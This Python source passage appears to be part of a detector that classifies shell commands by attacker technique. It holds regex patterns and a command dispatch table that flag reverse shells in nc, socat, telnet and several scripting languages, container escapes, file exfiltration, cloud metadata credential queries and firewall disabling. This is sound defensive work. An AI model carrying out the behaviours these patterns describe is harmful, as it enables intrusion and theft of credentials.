    text = " ".join(call.argv[1:])
    if re.search(r"cgroup.*(?:rdma|memory)|-t\s+cgroup\b", text):
        scene.notes.add("escape", 4.4, "T1611", "mounts a control group hierarchy")
    elif re.search(r"^(?:-\S+ )*/dev/(?:sda\d?|vda\d?|nvme0n1p?\d?|xvda\d?) ", text):
        scene.notes.add("escape", 3.0, "T1611", "mounts the disk of the host")
    elif len(call.argv) == 1:
        scene.notes.add("uptime")


def _capsh(scene: _Scene, at: int, call: Call) -> None:
    scene.notes.add("escape", 3.0 if call.name == "capsh" else 4.4, "T1611")


# shells given away


def _nc(scene: _Scene, at: int, call: Call) -> None:
    words = call.argv[1:]
    options = parse(words, "eciopqsTwxXgGIOPVD", {"exec", "sh-exec", "lua-exec", "wait", "proxy", "source", "source-port"})
    program = " ".join(options.all("e", "c", "exec", "sh-exec"))
    place = _place(options.operands)
    if re.search(r"(?:^|[\s/])(?:ba|da|a|z|k)?sh\b|cmd\.exe|python|perl|busybox", program):
        scene.notes.add("shell_out", words=f"gives a shell {place}")
        return
    feeder = scene.script.calls[call.pipe_in] if call.pipe_in is not None and 0 <= call.pipe_in < len(scene.script.calls) else None
    if feeder is not None and feeder.name in _SHELLS and "-c" not in feeder.argv:
        scene.notes.add("shell_out", words=f"gives a shell {place} through a pipe")
    elif feeder is not None and feeder.name in ("cat", "tar", "gzip", "dd") and options.operands and not options.has("l"):
        scene.notes.add("probe", 1.2, "T1048", f"sends a file out {place}")


def _place(operands: list[str]) -> str:
    if len(operands) >= 2:
        return f"to {plain(operands[0])} port {plain(operands[1])}"
    return f"on port {plain(operands[0])}" if operands else "to another machine"


def _socat(scene: _Scene, at: int, call: Call) -> None:
    ends = [word for word in call.argv[1:] if word[:1] != "-" or word == "-"]
    net = [e for e in ends if re.match(r"(?i)(?:tcp|udp|openssl|ssl|sctp|vsock|socks)[\w-]*:", e)]
    if net and any(re.match(r"(?i)(?:exec|system|shell):", e) for e in ends):
        scene.notes.add("shell_out", words=f"gives a shell to {plain(net[0].partition(':')[2].partition(',')[0])}")


def _telnet(scene: _Scene, at: int, call: Call) -> None:
    feeder = scene.script.calls[call.pipe_in] if call.pipe_in is not None and 0 <= call.pipe_in < len(scene.script.calls) else None
    if feeder is not None and feeder.name in _SHELLS:
        scene.notes.add("shell_out", words="gives a shell through telnet")


def _code(scene: _Scene, language: str, source: str) -> None:
    if language.startswith("py"):
        program = read_python(source)
        if program is None:
            return
        linked = program.called("connect", "connect_ex", "create_connection", "open_connection", "bind")
        shell = program.called("dup2", "spawn") or any(t in ("/bin/sh", "/bin/bash", "sh", "bash", "sh -i", "/bin/sh -i") for t in program.texts)
        if linked and shell and program.called("dup2", "spawn", "call", "Popen", "run", "system", "check_output", "fork"):
            scene.notes.add("shell_out", words="gives a shell to another machine from a Python program")
        elif program.called("exec", "eval") and program.called("urlopen", "get", "urlretrieve") and program.imports & {"urllib", "requests", "urllib2", "httpx"}:
            scene.notes.add("pipe_run", 3.0, words="runs a Python program that it fetches")
        elif any("169.254.169.254" in t or "metadata.google.internal" in t for t in program.texts):
            scene.notes.add("secrets", 4.6, "T1552.005", "asks the cloud's metadata service")
        elif any(p.search(t) for t in program.texts[:200] for p, _, _ in _SECRETS[:3]):
            scene.notes.add("secrets", words="reads credentials from a Python program")
        return
    if _OTHER_SHELLS.get(language, _NEVER).search(source[:4096]):
        scene.notes.add("shell_out", words=f"gives a shell to another machine from a {plain(language)} program")


_NEVER: Final = re.compile(r"(?!)")
_OTHER_SHELLS: Final = {
    "perl": re.compile(r"(?s)(?:Socket|IO::Socket).*(?:exec|system|open)\b.*|(?:exec|open).*(?:Socket|IO::Socket)"),
    "ruby": re.compile(r"(?s)(?:TCPSocket|TCPServer).*(?:exec|popen|spawn|system|fork)|(?:exec|popen).*TCPSocket|-rsocket"),
    "php": re.compile(r"(?s)(?:fsockopen|socket_create|stream_socket_client).*(?:exec|system|passthru|popen|proc_open|`)"),
    "node": re.compile(r"(?s)(?:net\.Socket|net\.connect|createConnection).*(?:spawn|exec)|(?:child_process).*(?:net\b)"),
    "lua": re.compile(r"(?s)socket.*(?:os\.execute|io\.popen)"),
    "awk": re.compile(r"/inet/(?:tcp|udp)/"),
}

_BY_NAME: dict[str, Callable[[_Scene, int, Call], None]] = {
    **{name: _look("cpu") for name in ("cpuid",)},
    "lscpu": _look("cpu", 1.0),
    "nproc": _look("cpu", 0.3),
    "top": _look("processes", 0.8),
    "htop": _look("processes", 0.8),
    "uname": _uname,
    **{name: _look("memory") for name in ("free", "vmstat")},
    **{name: _look("kernel") for name in ("lsb_release", "hostnamectl", "arch", "sw_vers")},
    **{name: _look("people") for name in ("w", "who", "last", "lastlog", "lastb", "users", "finger")},
    **{name: _look("self") for name in ("id", "whoami", "groups")},
    **{name: _look("processes") for name in ("ps", "pstree")},
    **{name: _look("network") for name in ("ifconfig", "netstat", "ss", "arp", "route")},
    **{name: _look("hardware") for name in ("lspci", "lsusb", "lshw", "dmidecode", "dmesg", "nvidia-smi", "systemd-detect-virt", "lsblk")},
    **{name: _look("uptime") for name in ("uptime", "df")},
    "history": _look("history"),
    **dict.fromkeys(("which", "whereis"), _which),
    **{name: _reads for name in ("cat", "head", "tail", "less", "more", "strings", "hexdump", "xxd", "od", "cp", "tac", "nl", "base64", "tar", "zip", "gzip", "vi", "vim", "nano", "scp_")},
    **{name: _grep for name in ("grep", "egrep", "fgrep", "awk", "gawk", "sed", "rg")},
    "dd": _dd,
    **{name: _fetches for name in FETCHERS},
    "scp": _scp,
    "chmod": _chmod,
    **{name: _shell for name in _INTERPRETERS},
    "source": _shell,
    ".": _shell,
    "eval": _shell,
    "exec": _shell,
    "busybox": _busybox,
    "enable": _enable,
    "shell": _enable,
    "system": _enable,
    "linuxshell": _enable,
    "cd": _cd,
    "su": _su,
    "rm": _rm,
    "systemctl": _systemctl,
    "service": _service,
    "rcSuSEfirewall2": _firewall_off,
    "SuSEfirewall2": _firewall_off,
    "reSuSEfirewall2": _firewall_off,
    "ufw": _firewall_off,
    "setenforce": _firewall_off,
    "iptables": _iptables,
    "ip6tables": _iptables,
    "crontab": _crontab,
    "useradd": _useradd,
    "adduser": _useradd,
    "passwd": _passwd,
    "chpasswd": _chpasswd,
    "usermod": _usermod,
    "chattr": _chattr,
    "chkconfig": _chkconfig,
    "update-rc.d": _chkconfig,
    "rc-update": _chkconfig,
    "pkill": _kill,
    "kill": _kill,
    "killall": _kill,
    "find": _find,
    "docker": _docker,
    "podman": _docker,
    "nerdctl": _docker,
    "nsenter": _nsenter,
    "chroot": _chroot,
    "mount": _mount,
    "capsh": _capsh,
    "insmod": _capsh,
    **{name: _nc for name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")},
    "socat": _socat,
    "telnet": _telnet,
    "openssl": _telnet,
}


def _tar_both(scene: _Scene, at: int, call: Call) -> None:
    _reads(scene, at, call)
    _tar(scene, at, call)


_BY_NAME["tar"] = _tar_both
